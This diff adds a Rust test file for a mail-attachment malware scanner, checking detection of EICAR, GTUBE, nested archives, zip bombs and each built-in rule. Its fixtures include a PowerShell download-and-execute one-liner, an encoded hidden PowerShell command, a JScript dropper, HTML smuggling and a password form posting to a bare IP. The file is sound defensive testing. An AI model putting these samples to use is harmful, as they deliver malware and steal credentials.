@@ -1,0 +1,302 @@
+use std::io::Write as _;
+
+use base64::Engine as _;
+use zip::write::SimpleFileOptions;
+
+use super::*;
+use crate::scan::tests::sample;
+
+/// The anti-virus test file, in pieces, so that no scanner takes this file for it.
+fn eicar() -> String {
+    [
+        "X5O!P%@AP[4\\PZX54(P^)7CC)7}$",
+        "EICAR-STANDARD-",
+        "ANTIVIRUS-TEST-FILE!$H+H*",
+    ]
+    .concat()
+}
+
+fn base64(bytes: impl AsRef<[u8]>) -> String {
+    base64::engine::general_purpose::STANDARD.encode(bytes)
+}
+
+fn zipped(name: &str, bytes: &[u8]) -> Vec<u8> {
+    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    zip.start_file(name, SimpleFileOptions::default())
+        .expect("start");
+    zip.write_all(bytes).expect("write");
+    zip.finish().expect("finish").into_inner()
+}
+
+fn attached(name: &str, bytes: impl AsRef<[u8]>) -> String {
+    format!(
+        "Subject: x\r\nContent-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n\r\nhello\r\n--o\r\n\
+         Content-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\nContent-Type: application/octet-stream\r\n\
+         Content-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n\
+         --i--\r\n--o--\r\n",
+        base64(bytes)
+    )
+}
+
+async fn ask(content: impl Into<bytes::Bytes>) -> Answer {
+    let rules = Arc::new(Rules::compile(true, &[]).expect("our own rules compile"));
+    let answer = rules.scan(sample(content)).await;
+    answer.expect("an answer").answer
+}
+
+async fn names(content: impl Into<bytes::Bytes>) -> Vec<String> {
+    match ask(content).await {
+        Answer::Answered(findings) => findings.into_iter().map(|f| f.name).collect(),
+        none => panic!("{none:?}"),
+    }
+}
+
+const EICAR: &str = "Eicar-Test-Signature";
+
+/// The test file is found wherever a mail can carry it, once, and with its place.
+#[tokio::test]
+async fn eicar_is_found_wherever_it_hides() {
+    let plain = format!("Subject: x\r\n\r\n{}\r\n", eicar());
+    assert_eq!(names(plain).await, [EICAR]);
+    assert_eq!(names(attached("a.com", eicar())).await, [EICAR]);
+    let zip = zipped("inner/a.com", eicar().as_bytes());
+    assert_eq!(names(attached("a.zip", &zip)).await, [EICAR]);
+    let nested = zipped("inner.zip", &zip);
+    let Answer::Answered(findings) = ask(attached("a.zip", nested)).await else {
+        panic!("no answer");
+    };
+    let detail = findings[0].detail.as_deref().unwrap_or_default();
+    assert!(detail.ends_with("a.zip/inner.zip/inner/a.com"), "{detail}");
+    assert_eq!(findings[0].kind, FindingKind::Malware);
+    let innocent = "Subject: x\r\n\r\nnothing here\r\n";
+    assert_eq!(names(innocent).await, Vec::<String>::new());
+}
+
+/// An encrypted archive is not clean: nobody has looked (promise P4).
+#[tokio::test]
+async fn encrypted_archives_are_not_called_clean() {
+    let mut zip = zipped("a.txt", b"hello hello hello");
+    // The flag, in the local header and in the central directory.
+    zip[6] |= 1;
+    let central = memchr::memmem::find(&zip, b"PK\x01\x02").expect("directory");
+    zip[central + 8] |= 1;
+    let answer = ask(attached("a.zip", zip)).await;
+    assert!(
+        matches!(
+            &answer,
+            Answer::None {
+                reason: Reason::Encrypted,
+                ..
+            }
+        ),
+        "{answer:?}"
+    );
+}
+
+/// A bomb is not unpacked and not called clean; neither is an archive that cannot be read.
+#[tokio::test]
+async fn bombs_and_broken_archives_are_not_called_clean() {
+    let bomb = zipped("a", &vec![0; 65 << 20]);
+    for content in [
+        attached("a.zip", &bomb),
+        attached("a.zip", &bomb[..bomb.len() - 40]),
+    ] {
+        let answer = ask(content).await;
+        assert!(
+            matches!(
+                &answer,
+                Answer::None {
+                    reason: Reason::LimitsReached,
+                    ..
+                }
+            ),
+            "{answer:?}"
+        );
+    }
+}
+
+fn program() -> Vec<u8> {
+    let mut pe = vec![0; 0x200];
+    pe[..2].copy_from_slice(b"MZ");
+    pe[0x3c] = 0x80;
+    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
+    pe
+}
+
+/// Each built-in rule matches what it describes.
+#[tokio::test]
+async fn each_rule_matches_its_carrier() {
+    let wide = |text: &str| {
+        text.encode_utf16()
+            .flat_map(u16::to_le_bytes)
+            .collect::<Vec<u8>>()
+    };
+    let lnk = [
+        b"L\0\0\0\x01\x14\x02\0".as_slice(),
+        &[0; 80],
+        &wide("PowerShell.exe"),
+    ]
+    .concat();
+    let ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1";
+    let macros = [
+        ole.as_slice(),
+        &wide("_VBA_PROJECT"),
+        b"Document_Open WScript.Shell",
+    ]
+    .concat();
+    let rtf = r"{\rtf1{\object\objupdate{\*\objdata 0105000002000000 4571756174696f6e2e3300}}}";
+    let link =
+        r"{\rtf1{\object\objautlink\objupdate{\*\objdata E0C9EA79F9BACE118C8200AA004BA90B}}}";
+    let mut iso = vec![0; 0x8001];
+    iso.extend_from_slice(b"CD001 SETUP.EXE;1");
+    let note = [
+        b"\xe4\x52\x5c\x7b".as_slice(),
+        b"\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC",
+        &[0; 20],
+        b"MZ",
+    ]
+    .concat();
+    let smuggled = format!(
+        "<script>var d='{}';var b=new Blob([atob(d)]);a.href=URL.createObjectURL(b);a.download='x.iso';a.click()</script>",
+        "QUJD".repeat(600)
+    );
+    let form =
+        "<FORM method=post action='http://203.0.113.9/x.php'><input name=p type=password></form>";
+    let encoded = format!("powershell.exe -nop -w hidden -enc {}", "QUJD".repeat(40));
+    let cases: Vec<(&str, &str, Vec<u8>)> = vec![
+        ("Carrier.Program-Named-As-Document", "a.pdf", program()),
+        ("Carrier.Double-Extension", "a.pdf.exe", program()),
+        ("Carrier.Shortcut-Shell", "a.lnk", lnk),
+        ("Macro.Auto-Open-Shell", "a.doc", macros),
+        ("Exploit.RTF-Equation", "a.doc", rtf.into()),
+        ("Carrier.RTF-Linked-Object", "a.rtf", link.into()),
+        ("Carrier.Disk-Image", "a.iso", iso),
+        ("Carrier.OneNote-Program", "a.one", note),
+        ("Carrier.HTML-Smuggling", "a.html", smuggled.into()),
+        ("Phishing.Form-To-Address", "a.htm", form.into()),
+        ("Script.PowerShell-Encoded", "a.bat", encoded.into()),
+        (
+            "Script.PowerShell-Download",
+            "a.ps1",
+            b"start -WindowStyle Hidden; IEX (New-Object Net.WebClient).DownloadString('http://x')".to_vec(),
+        ),
+        (
+            "Script.Dropper",
+            "a.js",
+            b"new ActiveXObject('WScript.Shell');new ActiveXObject('MSXML2.XMLHTTP');new ActiveXObject('ADODB.Stream').SaveToFile(f)"
+                .to_vec(),
+        ),
+    ];
+    for (rule, name, bytes) in cases {
+        assert_eq!(names(attached(name, bytes)).await, [rule], "{name}");
+    }
+    let gtube = [
+        "XJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-",
+        "STANDARD-ANTI-UBE-TEST-EMAIL*C.34X",
+    ]
+    .concat();
+    assert_eq!(
+        names(format!("Subject: x\r\n\r\n{gtube}\r\n")).await,
+        ["GTUBE"]
+    );
+}
+
+/// What is honest is left alone: false positives are worse than misses.
+#[tokio::test]
+async fn honest_attachments_are_left_alone() {
+    let cases: Vec<(&str, Vec<u8>)> = vec![
+        ("setup.exe", program()),
+        ("a.pdf", b"%PDF-1.7 see invoice.pdf.exe".to_vec()),
+        (
+            "a.lnk",
+            b"L\0\0\0\x01\x14\x02\0 C:\\share\\report.docx".to_vec(),
+        ),
+        (
+            "a.rtf",
+            br"{\rtf1{\object\objemb{\*\objdata 4571756174696f6e2e33}}}".to_vec(),
+        ),
+        (
+            "a.html",
+            b"<form action='http://192.168.1.1/login'><input type=password></form>".to_vec(),
+        ),
+        (
+            "login.html",
+            b"<form action='https://example.com/login'><input type=password></form>".to_vec(),
+        ),
+        (
+            "admin.ps1",
+            b"Invoke-WebRequest https://example.com/a.msi; Start-Process a.msi".to_vec(),
+        ),
+        ("a.docx", zipped("word/document.xml", b"<w:document/>")),
+    ];
+    for (name, bytes) in cases {
+        assert_eq!(
+            names(attached(name, bytes)).await,
+            Vec::<String>::new(),
+            "{name}"
+        );
+    }
+}
+
+/// Rules of the administrator are added to ours; without metadata a match is malware, as with any signature.
+#[tokio::test]
+async fn rules_of_the_administrator_are_added() {
+    let folder = tempfile::tempdir().expect("folder");
+    let file = folder.path().join("mine.yar");
+    std::fs::write(
+        &file,
+        "rule mine { strings: $a = \"secret plan\" condition: $a }\n\
+         rule named { meta: kind = \"policy\" score = \"2.5\" condition: extension == \"plan\" }\n",
+    )
+    .expect("write");
+    let rules = Rules::compile(true, &[folder.path().to_owned()]).expect("rules");
+    let content = attached("a.plan", "the secret plan");
+    let answer = Arc::new(rules).scan(sample(content)).await.expect("answer");
+    let Answer::Answered(findings) = answer.answer else {
+        panic!("no answer");
+    };
+    let seen: Vec<_> = findings
+        .iter()
+        .map(|f| (&*f.name, f.kind, f.score))
+        .collect();
+    assert_eq!(
+        seen,
+        [
+            ("mine", FindingKind::Malware, 10.0),
+            ("named", FindingKind::Policy, 2.5)
+        ]
+    );
+}
+
+/// A mistake in a rule file is told with file and line; one in its metadata with the rule's name.
+#[test]
+fn mistakes_in_rules_are_told_with_their_place() {
+    let folder = tempfile::tempdir().expect("folder");
+    let compile = |text: &str| {
+        let file = folder.path().join("bad.yar");
+        std::fs::write(&file, text).expect("write");
+        let error = Rules::compile(false, &[file]).expect_err("a mistake");
+        error
+            .to_string()
+            .replace(&folder.path().display().to_string(), "")
+    };
+    let text = compile("rule a {\n condition: true }\nrule b {\n condition: nonsense }\n");
+    assert!(text.starts_with("/bad.yar:4:13: error"), "{text}");
+    assert_eq!(
+        compile("rule a { meta: kind = \"virus\" condition: true }"),
+        "rule a /bad.yar: kind = \"virus\" is none of malware, phishing, policy, spam, suspicious, info"
+    );
+    let missing = Rules::compile(true, &["/nowhere/x.yar".into()]).expect_err("missing");
+    assert!(
+        missing
+            .to_string()
+            .starts_with("paths: cannot read /nowhere/x.yar: ")
+    );
+    let empty = tempfile::tempdir().expect("folder");
+    let empty = Rules::compile(true, &[empty.path().to_owned()]).expect_err("empty");
+    assert!(
+        empty
+            .to_string()
+            .ends_with("holds no file that ends in .yar or .yara")
+    );
+}
